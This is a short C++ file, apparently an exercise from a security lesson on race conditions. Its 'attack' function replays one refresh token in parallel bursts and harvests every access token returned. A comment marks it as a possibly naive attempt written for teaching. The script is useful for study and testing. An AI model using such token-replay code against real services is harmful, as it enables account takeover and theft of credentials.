// Believes: a loop is fast enough.
#include "double_spend.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  Loot loot;
  for (int i = 0; i < 8; ++i)
    for (const auto& answer : evidence.at_once({evidence.refresh_token}))
      if (answer.status == 200) loot.access_tokens.push_back(answer.json().text("access_token").value_or(""));
  return loot;
}

}  // namespace lesson
